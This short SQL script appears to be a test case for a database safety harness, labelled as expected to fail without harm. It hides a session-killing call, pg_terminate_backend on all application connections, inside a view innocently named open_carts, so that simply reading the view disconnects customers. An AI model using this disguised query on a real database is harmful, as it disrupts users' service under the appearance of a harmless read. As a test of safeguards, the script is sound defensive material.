-- due: failed nobody-harmed
-- tries: to end the customers' sessions by a look into a view.
CREATE INDEX CONCURRENTLY orders_by_status ON orders (status, created_at);
CREATE VIEW open_carts AS
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
 WHERE datname = current_database() AND usename LIKE 'app%' AND pid <> pg_backend_pid();
-- @pause 1s
TABLE open_carts;
-- @pause 2s
DROP VIEW open_carts;
